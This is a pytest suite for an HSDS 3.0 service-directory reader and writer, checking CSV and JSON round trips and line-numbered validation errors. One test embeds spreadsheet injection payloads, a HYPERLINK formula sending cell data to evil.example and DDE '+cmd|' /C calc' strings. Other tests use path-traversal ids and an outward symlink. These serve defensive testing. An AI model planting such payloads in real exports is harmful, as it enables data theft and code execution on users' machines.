"""HSDS 3.0 read and written: the sample package and its JSON read alike and survive a round trip; every kind of
problem is named at its file and the line where its row or object starts, all of them at once."""

from __future__ import annotations

import ast
import csv
import json
import shutil
import sys
from datetime import date, datetime, time, timedelta, timezone
from decimal import Decimal
from pathlib import Path

import pytest

from gatehouse.resources import hsds
from gatehouse.resources.hsds import (
    CONVICTION_TERM,
    Attribute,
    Directory,
    HsdsError,
    Location,
    Organization,
    Problem,
    Service,
    category_term,
    read,
    write_json,
    write_package,
)

DATA = Path(__file__).parent / "data" / "hsds"
SAMPLE = DATA / "sample"
SAMPLE_JSON = DATA / "sample.json"

BASE = Directory(
    organizations=(Organization("org-1", "Actiwerk"),),
    services=(Service("svc-1", "org-1", "Inschrijving", locations=(Location("loc-1", "Centrum"),),
                      attributes=(Attribute("attr-1", category_term("employment")),)),))
"""A package this small, written by write_package, is what each error case changes one file of."""
NESTED = ("phones", "schedules", "languages", "service_areas", "required_documents", "cost_options", "locations",
          "attributes")


def problems_of(path: Path) -> list[str]:
    with pytest.raises(HsdsError) as caught:
        read(path)
    assert str(caught.value) == "\n".join(str(p) for p in caught.value.problems)
    return [str(p) for p in caught.value.problems]


def put(path: Path, content: str | bytes) -> None:
    path.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))


@pytest.fixture(scope="module")
def sample() -> Directory:
    return read(SAMPLE)


@pytest.fixture
def base(tmp_path: Path) -> Path:
    write_package(BASE, tmp_path / "base")
    return tmp_path / "base"


# -- the sample -----------------------------------------------------------------------------------------------

@pytest.mark.parametrize(("service_id", "categories", "conviction", "languages", "phones", "city"), [
    ("svc-logement-accueil", ("housing",), False, ("fr", "nl"), 1, "Bruxelles"),
    ("svc-actiwerk-inschrijving", ("employment", "benefits"), False, ("nl", "fr", "en"), 2, "Brussel"),
    ("svc-actiwerk-jobcoach", ("employment",), True, ("nl", "fr"), 1, "Brussel"),
    ("svc-stadsloket-id", ("id-documents",), False, ("nl-BE", "en"), 1, "Antwerpen"),
    ("svc-mediation-dettes", ("debt", "legal"), False, ("fr", "de"), 1, "Namur"),
    ("svc-vrijbaan-drugs", ("addiction", "health"), False, ("nl", "en", "ar"), 1, "Gent"),
])
def test_the_sample_services(sample: Directory, service_id: str, categories: tuple[str, ...], conviction: bool,
                             languages: tuple[str, ...], phones: int, city: str) -> None:
    service = next(s for s in sample.services if s.id == service_id)
    assert hsds.categories(service) == categories
    assert hsds.open_to_conviction(service) is conviction
    assert tuple(lang.code for lang in service.languages) == languages
    assert len(service.phones) == phones  # the phone of a location only (ph-vrijbaan-reception) is left out
    assert [a.city for loc in service.locations for a in loc.addresses] == [city]


def test_the_sample_reads_with_its_types(sample: Directory) -> None:
    assert [o.id for o in sample.organizations] == ["org-logement", "org-actiwerk", "org-stadsloket",
                                                    "org-mediation", "org-vrijbaan"]
    assert sample.organizations[0].name == "Maison du Logement de Bruxelles – Brussels Woonhuis"  # BOM gone
    housing, _, coach, counter, debt, _ = sample.services
    assert housing.description is not None and housing.description.splitlines()[1].startswith("Een eerste")
    assert housing.assured_date == date(2025, 2, 14) and housing.minimum_age == 18 and housing.maximum_age is None
    assert housing.last_modified == datetime(2025, 2, 14, 9, 30, tzinfo=timezone(timedelta(hours=1)))
    assert housing.alternate_name == "Woononthaal na detentie"
    assert housing.schedules[1].valid_to == date(2025, 12, 31)
    assert (housing.schedules[0].byday, housing.schedules[0].opens_at) == ("MO,TU,TH", time(9, 0))
    info = coach.schedules[0]
    assert (info.freq, info.byday, info.dtstart, info.until, info.wkst) == (
        "MONTHLY", "1TU,3TU", date(2025, 1, 7), date(2025, 12, 16), "MO")
    assert coach.locations == sample.services[1].locations  # one location, two services
    assert [(c.amount, c.currency) for c in counter.cost_options] == [(Decimal("26.30"), "EUR"),
                                                                        (Decimal("124.60"), "EUR")]
    assert counter.required_documents[1].uri == "https://scheldeoever.example.be/loket/pasfoto"
    assert (debt.schedules[1].bymonthday, debt.schedules[1].timezone) == ("1", 1.0)
    assert debt.alternate_name is None  # an empty cell
    assert coach.locations[0].latitude == 50.8503
    assert [a.taxonomy_term.taxonomy for a in housing.attributes] == ["gatehouse-category",
                                                                      "https://openeligibility.org"]


@pytest.mark.parametrize("path", [SAMPLE, SAMPLE / "datapackage.json", SAMPLE_JSON], ids=["folder", "index", "json"])
def test_package_folder_index_and_json_read_the_same(sample: Directory, path: Path) -> None:
    assert read(path) == sample


def test_json_may_be_an_object_with_a_services_list(sample: Directory, tmp_path: Path) -> None:
    put(tmp_path / "feed.json", json.dumps({"services": json.loads(SAMPLE_JSON.read_text("utf-8"))}))
    assert read(tmp_path / "feed.json") == sample


def test_a_package_is_found_by_the_paths_its_index_names(sample: Directory, tmp_path: Path) -> None:
    """HSDS 3.0's own files are plural (services.csv, phones.csv): the index says which file holds which table."""
    folder = tmp_path / "plural"
    shutil.copytree(SAMPLE, folder)
    index = json.loads((folder / "datapackage.json").read_text("utf-8"))
    for resource in index["resources"]:
        resource["path"] = f"tables/{resource['name']}s.csv"
        (folder / "tables").mkdir(exist_ok=True)
        (folder / f"{resource['name']}.csv").rename(folder / resource["path"])
    put(folder / "datapackage.json", json.dumps(index))
    assert read(folder) == sample


# -- writing and reading back ---------------------------------------------------------------------------------

@pytest.mark.parametrize("source", [SAMPLE, SAMPLE_JSON], ids=["from-package", "from-json"])
@pytest.mark.parametrize("shape", ["package", "json"])
def test_round_trip(sample: Directory, tmp_path: Path, source: Path, shape: str) -> None:
    directory = read(source)
    if shape == "package":
        written = write_package(directory, tmp_path / "out")
        assert [p.name for p in written] == ["datapackage.json", *(f"{name}.csv" for name in hsds.TABLES)]
        again = read(tmp_path / "out")
    else:
        write_json(directory, tmp_path / "out.json")
        again = read(tmp_path / "out.json")
    assert again == directory == sample


def test_writing_the_same_directory_twice_writes_the_same_files(sample: Directory, tmp_path: Path) -> None:
    first = {p.name: p.read_bytes() for p in write_package(sample, tmp_path / "a")}
    second = {p.name: p.read_bytes() for p in write_package(read(tmp_path / "a"), tmp_path / "b")}
    assert first == second
    write_json(sample, tmp_path / "a.json")
    write_json(read(tmp_path / "a.json"), tmp_path / "b.json")
    assert (tmp_path / "a.json").read_bytes() == (tmp_path / "b.json").read_bytes()


def test_a_written_cell_is_never_a_formula_in_a_spreadsheet_and_reads_back_as_it_was(tmp_path: Path) -> None:
    formulas = ['=HYPERLINK("https://evil.example/?"&A1,"Open")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
                "@SUM(1)", "'=already quoted", "''"]
    directory = Directory(
        organizations=(Organization("org-1", formulas[0], email="=x@evil.example"),),
        services=(Service("svc-1", "org-1", formulas[1], description=formulas[2], alternate_name=formulas[3],
                          application_process=formulas[4], fees_description=formulas[5],
                          eligibility_description="'plain, it stays", phones=(
                              hsds.Phone("ph-1", "+32 2 555 01 10"), hsds.Phone("ph-2", "@1 call us"))),))
    write_package(directory, tmp_path / "out")
    cells = [cell for name in ("organization", "service", "phone")
             for row in csv.reader((tmp_path / "out" / f"{name}.csv").read_text(encoding="utf-8").splitlines())
             for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@") and cell != "+32 2 555 01 10"], cells
    assert {"'" + f for f in formulas} <= set(cells) and "'plain, it stays" in cells
    assert read(tmp_path / "out") == directory


def test_the_written_index_is_a_tabular_data_package(sample: Directory, tmp_path: Path) -> None:
    write_package(sample, tmp_path)
    index = json.loads((tmp_path / "datapackage.json").read_text("utf-8"))
    assert index["profile"] == "tabular-data-package" and index["name"]
    resources = {r["name"]: r for r in index["resources"]}
    assert set(resources) == set(hsds.TABLES)
    phone = resources["phone"]
    assert (phone["path"], phone["schema"]["primaryKey"]) == ("phone.csv", "id")
    assert phone["schema"]["foreignKeys"] == [{"fields": "service_id", "reference": {"resource": "service",
                                                                                      "fields": "id"}}]
    types = {f["name"]: f["type"] for f in resources["service"]["schema"]["fields"]}
    assert (types["assured_date"], types["minimum_age"], types["last_modified"]) == ("date", "integer", "datetime")
    header = (tmp_path / "service.csv").read_text("utf-8").splitlines()[0].split(",")
    assert header == [f["name"] for f in resources["service"]["schema"]["fields"]]


def test_json_has_no_place_for_an_organization_without_services(tmp_path: Path) -> None:
    directory = Directory(BASE.organizations + (Organization("org-2", "Nobody's"),), BASE.services)
    write_json(directory, tmp_path / "d.json")
    assert read(tmp_path / "d.json") == BASE
    write_package(directory, tmp_path / "p")
    assert read(tmp_path / "p") == directory


@pytest.mark.parametrize("service_id", ["svc-logement-accueil", "svc-actiwerk-jobcoach", "svc-stadsloket-id",
                                        "svc-mediation-dettes"])
def test_details_keep_what_a_service_nests(sample: Directory, service_id: str) -> None:
    service = next(s for s in sample.services if s.id == service_id)
    stored = json.loads(json.dumps(hsds.details_of(service)))  # as a JSON column gives it back
    bare = Service(service.id, service.organization_id, service.name, description="kept")
    again = hsds.with_details(bare, stored)
    assert again.description == "kept"
    assert again == Service(service.id, service.organization_id, service.name, description="kept",
                            **{key: getattr(service, key) for key in NESTED})


def test_details_that_are_not_hsds_are_refused() -> None:
    with pytest.raises(HsdsError) as caught:
        hsds.with_details(BASE.services[0], {"phones": [{"id": "ph-1", "number": "+32 2", "type": "mobile"}]})
    assert str(caught.value) == "details: phone: type 'mobile' is not a phone type (text, voice, fax, cell, video, " \
                                "pager or textphone)"


def test_terms_of_the_conventions() -> None:
    assert category_term("debt") == hsds.TaxonomyTerm("gatehouse-category-debt", "debt", "debt", "gatehouse-category")
    with pytest.raises(ValueError, match="'work' is not a Gatehouse category"):
        category_term("work")
    service = Service("s", "o", "n", attributes=(Attribute("a", CONVICTION_TERM),
                                                 Attribute("b", category_term("legal"))))
    assert (hsds.categories(service), hsds.open_to_conviction(service)) == (("legal",), True)
    assert hsds.open_to_conviction(BASE.services[0]) is False


def test_the_module_imports_nothing_of_the_database() -> None:
    tree = ast.parse(Path(hsds.__file__).read_text("utf-8"))
    roots = {alias.name.split(".")[0] for node in ast.walk(tree) if isinstance(node, ast.Import)
             for alias in node.names}
    roots |= {node.module.split(".")[0] for node in ast.walk(tree)
              if isinstance(node, ast.ImportFrom) and node.module and node.level == 0}
    assert roots - sys.stdlib_module_names == {"gatehouse"}


# -- problems in a package ------------------------------------------------------------------------------------

SERVICES = "id,organization_id,name,status,assured_date\n"
CSV_CASES = [
    pytest.param("service.csv", SERVICES + "svc-1,org-1,Inschrijving,active,2025-01-20\n"
                 + "".join(f"svc-{n},org-1,Dienst {n},active,\n" for n in range(2, 6))
                 + "svc-6,org-1,Jobcoaching,active,2025-13-01\n",
                 ["service.csv:7: assured_date '2025-13-01' is not a date (YYYY-MM-DD)"], id="date"),
    pytest.param("service.csv", 'id,organization_id,name,status,description,minimum_age\n'
                 'svc-1,org-1,Inschrijving,active,"Three lines,\none quoted field,\n""and quotes""",\n'
                 'svc-2,org-1,Jobcoaching,active,,eighteen\n',
                 ["service.csv:5: minimum_age 'eighteen' is not an age in whole years (0 to 150)"],
                 id="after-a-multi-line-field"),
    pytest.param("service.csv", b'id,organization_id,name,status,description,minimum_age\r\n'
                 b'svc-1,org-1,Inschrijving,active,"Two lines\r\nwith CRLF",\r\n\r\n'
                 b'svc-2,org-1,Jobcoaching,active,,-1\r\n',
                 ["service.csv:5: minimum_age '-1' is not an age in whole years (0 to 150)"],
                 id="crlf-and-a-blank-line"),
    pytest.param("service.csv", "id,organization_id,name,status,minimum_age,maximum_age,url,email\n"
                 "svc-1,org-1,Inschrijving,active,,,,\n"
                 "svc-2,,Jobcoaching,active,,,,\n"
                 "svc-3,org-1,,open,abc,,,\n"
                 "svc-1,org-1,Dubbel,active,,,,\n"
                 "svc-4,org-9,Nergens,active,70,18,,\n"
                 "svc-5,org-1,Website,inactive,,,www.example.be,jobs.example.be\n",
                 ["service.csv:3: no organization_id (required)",
                  "service.csv:4: no name (required)",
                  "service.csv:4: status 'open' is not a service status (active, inactive, defunct or temporarily "
                  "closed)",
                  "service.csv:4: minimum_age 'abc' is not an age in whole years (0 to 150)",
                  "service.csv:5: id 'svc-1' is already used on line 2",
                  "service.csv:6: minimum_age 70 is above maximum_age 18",
                  "service.csv:6: organization_id 'org-9' names no organization",
                  "service.csv:7: url 'www.example.be' is not a web address (http:// or https://)",
                  "service.csv:7: email 'jobs.example.be' is not an e-mail address (name@example.org)"],
                 id="several-in-one-file"),
    pytest.param("service.csv", "id,organization_id,name,status\nsvc-1,org-1,Inschrijving,active\n"
                 "../../curation,org-1,A,active\n..,org-1,B,active\nsvc/2,org-1,C,active\nsvc.3,org-1,D,active\n"
                 ",org-1,E,active\n",
                 ["service.csv:3: id '../../curation' cannot be part of a web address (no / in it, and not . or ..)",
                  "service.csv:4: id '..' cannot be part of a web address (no / in it, and not . or ..)",
                  "service.csv:5: id 'svc/2' cannot be part of a web address (no / in it, and not . or ..)",
                  "service.csv:7: no id (required)"],
                 id="ids-in-addresses"),
    pytest.param("service.csv", "id,organization_id,name,status,last_modified\n"
                 "svc-1,org-1,Inschrijving,active,2025-02-14T09:30\n",
                 ["service.csv:2: last_modified '2025-02-14T09:30' is not a date and time with its time zone "
                  "(YYYY-MM-DDTHH:MM:SSZ or with an offset like +01:00)"], id="datetime-without-zone"),
    pytest.param("service.csv", "id,name,status,description\nsvc-1,Inschrijving,active,\n",
                 ["service.csv:1: no column 'organization_id'; service needs id, organization_id, name, status"],
                 id="header-lacks-a-column"),
    pytest.param("service.csv", "id,organization_id,name,status,Name\nsvc-1,org-1,Inschrijving,active,Again\n",
                 ["service.csv:1: column 'name' given twice"], id="header-names-a-column-twice"),
    pytest.param("organization.csv", "id,name,email\norg-1,Acti\x00werk,\norg-2," + "n" * 256 + ",\n",
                 ["organization.csv:2: name holds the character U+0000, which is not text (a database cannot store "
                  "it)", "organization.csv:3: name is 256 characters long; at most 255"], id="what-a-database-refuses"),
    pytest.param("organization.csv", "id,name,website,email\norg-1,Actiwerk,ftp://actiwerk.example.be,\n",
                 ["organization.csv:2: website 'ftp://actiwerk.example.be' is not a web address (http:// or "
                  "https://)"], id="website"),
    pytest.param("phone.csv", "id,service_id,number\nph-1,svc-1,+32 2 555 02 00\nph-2,svc-9,+32 2 555 02 01\n",
                 ["phone.csv:3: service_id 'svc-9' names no service"], id="unknown-service"),
    pytest.param("phone.csv", "id,service_id,number,extension,type\nph-1,svc-1,+32 2 555 02 00,12a,mobile\n"
                 "ph-1,svc-1,,,\n",
                 ["phone.csv:2: extension '12a' is not an extension (digits only)",
                  "phone.csv:2: type 'mobile' is not a phone type (text, voice, fax, cell, video, pager or "
                  "textphone)",
                  "phone.csv:3: no number (required)",
                  "phone.csv:3: id 'ph-1' is already used on line 2"], id="phone-fields-and-duplicate"),
    pytest.param("phone.csv", 'id,service_id,number\nph-1,svc-1,"+32 2 555 02 00\nph-2,svc-1,+32 2\n',
                 ["phone.csv:2: not valid CSV: unexpected end of data"], id="unterminated-quote"),
    pytest.param("phone.csv", "id,service_id,number\nph-1,svc-1,+32 2 555 02 00,extra\n",
                 ["phone.csv:2: 4 cells where the header has 3"], id="too-many-cells"),
    pytest.param("phone.csv", "", ["phone.csv:1: the file is empty; expected a header row naming id, number at "
                                   "least"], id="empty-file"),
    pytest.param("phone.csv", "id,service_id,number\nph-1,svc-1,+32 2\nph-2,svc-1,Caf\xe9 +32 2\n".encode("latin-1"),
                 ["phone.csv:3: not UTF-8 text (byte 0xe9 cannot be read as UTF-8); save the file as UTF-8"],
                 id="not-utf-8"),
    pytest.param("schedule.csv", "id,service_id,freq,byday,opens_at,closes_at\n"
                 "sch-1,svc-1,WEEKLY,MO,9h00,25:00\n",
                 ["schedule.csv:2: opens_at '9h00' is not a time (HH:MM or HH:MM:SS)",
                  "schedule.csv:2: closes_at '25:00' is not a time (HH:MM or HH:MM:SS)"], id="times"),
    pytest.param("schedule.csv", "id,service_id,valid_from,valid_to,dtstart,until\n"
                 "sch-1,svc-1,2025-02-30,,,\nsch-2,svc-1,2025-06-01,2025-01-01,2025-01-07,2024-12-31\n",
                 ["schedule.csv:2: valid_from '2025-02-30' is not a date (YYYY-MM-DD)",
                  "schedule.csv:3: valid_to 2025-01-01 is before valid_from 2025-06-01",
                  "schedule.csv:3: until 2024-12-31 is before dtstart 2025-01-07"], id="schedule-dates"),
    pytest.param("schedule.csv", 'id,service_id,freq,interval,byday,bymonthday,wkst,timezone\n'
                 'sch-1,svc-1,DAILY,0,"MO,XX",,SO,\n'
                 'sch-2,svc-1,monthly,1,6MO,"1,32",,15\n'
                 'sch-3,svc-1,monthly,2,"-1fr, 2MO","1,-31",mo,-5\n',
                 ["schedule.csv:2: freq 'DAILY' is not a frequency (WEEKLY or MONTHLY)",
                  "schedule.csv:2: interval '0' is not an interval (a whole number of 1 or more)",
                  "schedule.csv:2: byday 'MO,XX' is not a list of days (MO, TU, WE, TH, FR, SA, SU, comma "
                  "separated; a day may start with its ordinal in the month, as in 2MO or -1FR)",
                  "schedule.csv:2: wkst 'SO' is not a day (MO, TU, WE, TH, FR, SA or SU)",
                  "schedule.csv:3: byday '6MO' is not a list of days (MO, TU, WE, TH, FR, SA, SU, comma "
                  "separated; a day may start with its ordinal in the month, as in 2MO or -1FR)",
                  "schedule.csv:3: bymonthday '1,32' is not a list of days of the month (1 to 31 or -31 to -1, "
                  "comma separated)",
                  "schedule.csv:3: timezone '15' is not a UTC offset in hours (-12 to 14)"], id="recurrence"),
    pytest.param("language.csv", "id,service_id,name,code\nlang-1,svc-1,Français,French\n"
                 "lang-2,svc-1,Nederlands,nl_BE\nlang-3,svc-1,,\nlang-4,svc-1,,nl-BE\n",
                 ["language.csv:2: code 'French' is not a language code (BCP 47, like fr, nl or nl-BE)",
                  "language.csv:3: code 'nl_BE' is not a language code (BCP 47, like fr, nl or nl-BE)",
                  "language.csv:4: a language needs a name or a code"], id="language-codes"),
    pytest.param("location.csv", "id,name,latitude,longitude\nloc-1,Centrum,95,east\n",
                 ["location.csv:2: latitude '95' is not a latitude (a number from -90 to 90)",
                  "location.csv:2: longitude 'east' is not a longitude (a number from -180 to 180)"],
                 id="coordinates"),
    pytest.param("address.csv", "id,location_id,address_1,city,country\nadr-1,loc-1,Kaai 3,Antwerpen,BEL\n"
                 "adr-2,loc-9,Kaai 4,Antwerpen,BE\nadr-3,,Kaai 5,Antwerpen,BE\n",
                 ["address.csv:2: country 'BEL' is not a country code (two letters, like BE)",
                  "address.csv:3: location_id 'loc-9' names no location",
                  "address.csv:4: no location_id (required)"], id="addresses"),
    pytest.param("service_at_location.csv", "id,service_id,location_id\nsal-1,svc-1,loc-1\nsal-2,svc-1,loc-2\n",
                 ["service_at_location.csv:3: location_id 'loc-2' names no location"], id="unknown-location"),
    pytest.param("cost_option.csv", "id,service_id,option,amount,currency\ncost-1,svc-1,eID,\"12,50\",EUR\n"
                 "cost-2,svc-1,eID,-3,EUR\ncost-3,svc-1,eID,26.30,EURO\ncost-4,,eID,0,EUR\n",
                 ["cost_option.csv:2: amount '12,50' is not an amount (a number of 0 or more, like 12.50)",
                  "cost_option.csv:3: amount '-3' is not an amount (a number of 0 or more, like 12.50)",
                  "cost_option.csv:4: currency 'EURO' is not a currency code (three letters, like EUR)",
                  "cost_option.csv:5: no service_id (required)"], id="amounts"),
    pytest.param("cost_option.csv", "id,service_id,option,amount,currency\ncost-1,svc-1,eID,1e400,EUR\n",
                 ["cost_option.csv:2: amount '1e400' is not an amount (a number of 0 or more, like 12.50)"],
                 id="amount-of-400-digits"),
    pytest.param("schedule.csv", "id,service_id,freq,interval,bymonthday\nsch-1,svc-1,MONTHLY,9e999999999,1e99999999\n",
                 ["schedule.csv:2: interval '9e999999999' is not an interval (a whole number of 1 or more)",
                  "schedule.csv:2: bymonthday '1e99999999' is not a list of days of the month (1 to 31 or -31 to -1, "
                  "comma separated)"], id="whole-numbers-of-a-billion-digits"),
    pytest.param("required_document.csv", "id,service_id,document,uri\ndoc-1,svc-1,,\n"
                 "doc-2,svc-1,Pasfoto,scheldeoever.example.be/pasfoto\n",
                 ["required_document.csv:2: no document (required)",
                  "required_document.csv:3: uri 'scheldeoever.example.be/pasfoto' is not a web address (http:// "
                  "or https://)"], id="documents"),
    pytest.param("attribute.csv", "id,link_id,link_entity,taxonomy_term_id\n"
                 "attr-1,svc-1,service,gatehouse-category-employment\nattr-2,svc-1,service,tt-unknown\n"
                 "attr-3,svc-9,,gatehouse-category-employment\nattr-4,org-1,organization,tt-unknown\n",
                 ["attribute.csv:3: taxonomy_term_id 'tt-unknown' names no taxonomy term",
                  "attribute.csv:4: link_id 'svc-9' names no service"], id="attributes"),
    pytest.param("taxonomy_term.csv", "id,code,name,taxonomy\n"
                 "gatehouse-category-employment,employment,Employment,gatehouse-category\n"
                 "tt-2,housng,Housing,gatehouse-category\ntt-3,convicted,Conviction,gatehouse-eligibility\n"
                 "tt-4,housng,Housing,another-taxonomy\n",
                 ["taxonomy_term.csv:3: code 'housng' is not a Gatehouse category (employment, housing, benefits, "
                  "id-documents, health, addiction, debt, legal, family, education)",
                  "taxonomy_term.csv:4: code 'convicted' is not a Gatehouse eligibility flag (open-to-conviction)"],
                 id="conventions"),
]


@pytest.mark.parametrize(("file", "content", "expected"), CSV_CASES)
def test_problems_in_a_package(base: Path, file: str, content: str | bytes, expected: list[str]) -> None:
    put(base / file, content)
    assert problems_of(base) == expected


def test_unknown_columns_a_bom_and_padding_are_fine(base: Path) -> None:
    put(base / "service.csv", "\ufeffID , organization_id,name,status,alert,minimum_age\n"
                              "  svc-1 ,org-1, Inschrijving ,Active,Closed on Monday, 16 \n")
    (service,) = read(base).services
    assert (service.id, service.name, service.status, service.minimum_age) == ("svc-1", "Inschrijving", "active", 16)
    assert service.description is None


INDEX_CASES = [
    pytest.param('{\n  "profile": "tabular-data-package",\n  "resources": [\n'
                 '    {"name": "organization", "path": "organization.csv"},\n'
                 '    {"name": "service", "path": "service.csv"},\n'
                 '    {"name": "phone", "path": "phones.csv"}\n  ]\n}\n',
                 ["datapackage.json:6: resource 'phone' names phones.csv, which is not in the package"],
                 id="missing-file"),
    pytest.param('{"resources": [\n  {"name": "organization", "path": "organization.csv"},\n'
                 '  {"name": "service", "path": "../service.csv"},\n  {"name": "phone", "path": ["a.csv", "b.csv"]}\n'
                 ']}',
                 ["datapackage.json:3: resource 'service': path '../service.csv' is not the name of a file in the "
                  "package",
                  "datapackage.json:4: resource 'phone': path ['a.csv', 'b.csv'] is not the name of a file in the "
                  "package"],
                 id="paths-outside"),
    pytest.param('{"resources": [\n  {"name": "organization", "path": "organization.csv"},\n'
                 '  {"name": "services", "path": "service.csv"}\n]}',
                 ["datapackage.json:1: no resource named 'service'; a directory needs its service table"],
                 id="no-service-resource"),
    pytest.param('{"resources": [\n  {"name": "organization", "path": "organization.csv"},\n'
                 '  {"name": "service", "path": "service.csv"},\n'
                 '  {"name": "service", "path": "service.csv"}\n]}',
                 ["datapackage.json:4: resource 'service' is named twice"], id="resource-twice"),
    pytest.param('{"resources": [\n  {"name": "organization", "path": "organization.csv"}\n'
                 '  {"name": "service", "path": "service.csv"}\n]}',
                 ["datapackage.json:3: not valid JSON at column 3: Expecting ',' delimiter"], id="json-syntax"),
    pytest.param('{"resources": {"service": "service.csv"}}',
                 ['datapackage.json:1: expected an object with a "resources" list'], id="resources-not-a-list"),
    pytest.param(b'{"title": "Diensten \xe9\xe9n", "resources": []}',
                 ["datapackage.json:1: not UTF-8 text (byte 0xe9 cannot be read as UTF-8); save the file as UTF-8"],
                 id="index-not-utf-8"),
]


@pytest.mark.parametrize(("content", "expected"), INDEX_CASES)
def test_problems_in_the_index(base: Path, content: str | bytes, expected: list[str]) -> None:
    put(base / "datapackage.json", content)
    assert problems_of(base) == expected


def test_problems_of_a_missing_package_or_file(tmp_path: Path) -> None:
    assert problems_of(tmp_path) == ["datapackage.json: no such file; a data package folder holds "
                                     "datapackage.json and the CSV files it names"]
    assert problems_of(tmp_path / "feed.json") == ["feed.json: no such file or folder"]
    assert str(Problem("service.csv", 3, "no name (required)")) == "service.csv:3: no name (required)"


def test_a_file_of_the_package_may_not_be_a_link_out_of_it(base: Path, tmp_path: Path) -> None:
    put(tmp_path / "secret.txt", "id,number\nsecret-1,a password\n")
    (base / "phone.csv").unlink()
    (base / "phone.csv").symlink_to(tmp_path / "secret.txt")
    (base / "inner").mkdir()
    (base / "location.csv").rename(base / "inner" / "location.csv")
    (base / "location.csv").symlink_to(base / "inner" / "location.csv")  # a link that stays inside is fine
    said = problems_of(base)
    assert said == ["datapackage.json:290: resource 'phone': phone.csv is a link to a file outside the package"]


def test_problems_in_several_files_come_together_by_file_and_line(base: Path) -> None:
    put(base / "phone.csv", "id,service_id,number\nph-1,svc-2,+32 2\n")
    put(base / "schedule.csv", "id,service_id,opens_at\nsch-1,svc-1,noon\n")
    put(base / "service.csv", "id,organization_id,name,status\nsvc-1,org-1,Inschrijving,closed\n")
    assert problems_of(base) == [
        "phone.csv:2: service_id 'svc-2' names no service",
        "schedule.csv:2: opens_at 'noon' is not a time (HH:MM or HH:MM:SS)",
        "service.csv:2: status 'closed' is not a service status (active, inactive, defunct or temporarily closed)"]


def test_a_table_that_cannot_be_read_does_not_make_its_references_problems(base: Path) -> None:
    put(base / "location.csv", b"id,name\nloc-1,Caf\xe9\n")
    assert problems_of(base) == [
        "location.csv:2: not UTF-8 text (byte 0xe9 cannot be read as UTF-8); save the file as UTF-8"]


# -- problems in HSDS JSON ------------------------------------------------------------------------------------

JSON_CASES = [
    pytest.param("""[
  {
    "id": "svc-1", "name": "Inschrijving", "status": "active",
    "organization": {"id": "org-1", "name": "Actiwerk"},
    "schedules": [
      {"id": "sch-1", "byday": "MO",
       "opens_at": "9h00"},
      {
        "id": "sch-2", "valid_from": "2025-13-01"
      }
    ],
    "assured_date": "yesterday"
  }
]""", ["feed.json:2: service: assured_date 'yesterday' is not a date (YYYY-MM-DD)",
       "feed.json:6: schedule: opens_at '9h00' is not a time (HH:MM or HH:MM:SS)",
       "feed.json:8: schedule: valid_from '2025-13-01' is not a date (YYYY-MM-DD)"], id="nested-objects"),
    pytest.param("""[
  {"id": "svc-1", "name": "Inschrijving", "status": "active", "organization": {"id": "org-1", "name": "Actiwerk"},
   "phones": [{"id": "ph-1", "number": "+32 2 555 02 00"}]},
  {"id": "svc-2", "name": "Jobcoaching", "status": "active",
   "organization": {"id": "org-1", "name": "Actiwerk Brussel"},
   "phones": [{"id": "ph-1", "number": "+32 2 555 02 14"}, {"number": "+32 2"}]}
]""", ["feed.json:5: organization 'org-1' is not the same as on line 2",
       "feed.json:6: phone: id 'ph-1' is already used on line 3",
       "feed.json:6: phone: no id (required)"], id="shared-and-duplicate"),
    pytest.param("""{"services": [
  {"id": "svc-1", "name": ["Inschrijving"], "status": "active", "organization_id": "org-2",
   "organization": {"id": "org-1", "name": "Actiwerk"}, "phones": {"id": "ph-1"}, "minimum_age": true,
   "languages": ["nl"]},
  {"id": "svc-2", "name": "Jobcoaching", "status": "active"},
  "svc-3"
]}""", ["feed.json:1: item 3 of the services is not an object",
        "feed.json:2: service: name must be text or a number, not a list",
        "feed.json:2: service: minimum_age must be text or a number, not true or false",
        "feed.json:2: service: organization_id 'org-2' is not the id of its organization ('org-1')",
        "feed.json:2: service: phones must be a list",
        "feed.json:2: service: organization_id 'org-2' names no organization",
        "feed.json:4: service: item 1 of languages is not an object",
        "feed.json:5: service: no organization_id (required)"], id="shapes"),
    pytest.param("""[{"id": "svc-1", "name": "Inschrijving", "status": "active",
  "organization": {"id": "org-1", "name": "Actiwerk"},
  "service_at_locations": [
    {"id": "sal-1", "location_id": "loc-9"},
    {"id": "sal-2", "location": {"id": "loc-1", "latitude": "north",
                                 "addresses": [{"id": "adr-1", "country": "Belgium"}]}}
  ],
  "attributes": [
    {"id": "attr-1", "taxonomy_term": {"id": "tt-1", "name": "Work", "code": "work",
                                       "taxonomy": "gatehouse-category"}}
  ]
}]""", ["feed.json:4: service_at_location: location_id 'loc-9' names no location",
        "feed.json:5: location: latitude 'north' is not a latitude (a number from -90 to 90)",
        "feed.json:6: address: country 'Belgium' is not a country code (two letters, like BE)",
        "feed.json:9: taxonomy_term: code 'work' is not a Gatehouse category (employment, housing, benefits, "
        "id-documents, health, addiction, debt, legal, family, education)"], id="locations-and-terms"),
    pytest.param('[\n  {"id": "svc-1",\n   "name": "Inschrijving"\n   "status": "active"}\n]',
                 ["feed.json:4: not valid JSON at column 4: Expecting ',' delimiter"], id="syntax"),
    pytest.param('[{"id": "svc-1", "name": "a",\n  "name": "b"}]',
                 ["feed.json:2: not valid JSON at column 3: key 'name' given twice in one object"], id="duplicate-key"),
    pytest.param('[{"id": "svc-1",\n  "name": "Inschrijving\n"}]',
                 ["feed.json:2: not valid JSON at column 24: Invalid control character"], id="newline-in-a-string"),
    pytest.param('[{"id": "svc-1", "status": "active",\n  "name": "Caf\\u0000",\n  "description": "\\ud83d",\n'
                 '  "organization": {"id": "org-1", "name": "Actiwerk", "email": "a\\udc00@actiwerk.example"}}]',
                 ["feed.json:1: service: name holds the character U+0000, which is not text (a database cannot "
                  "store it)",
                  "feed.json:1: service: description holds the character U+D83D, which is not text (a database "
                  "cannot store it)",
                  "feed.json:4: organization: email holds the character U+DC00, which is not text (a database "
                  "cannot store it)"], id="not-text"),
    pytest.param('[{"id": "' + "s" * 101 + '", "status": "active", "name": "' + "n" * 256 + '",\n'
                 '  "url": "https://actiwerk.example/' + "p" * 1000 + '",\n'
                 '  "organization": {"id": "org-1", "name": "Actiwerk"}}]',
                 ["feed.json:1: service: id is 101 characters long; at most 100",
                  "feed.json:1: service: name is 256 characters long; at most 255",
                  "feed.json:1: service: url is 1025 characters long; at most 1024"], id="too-long"),
    pytest.param('{"service": []}', ['feed.json:1: expected a list of services, or an object with a "services" '
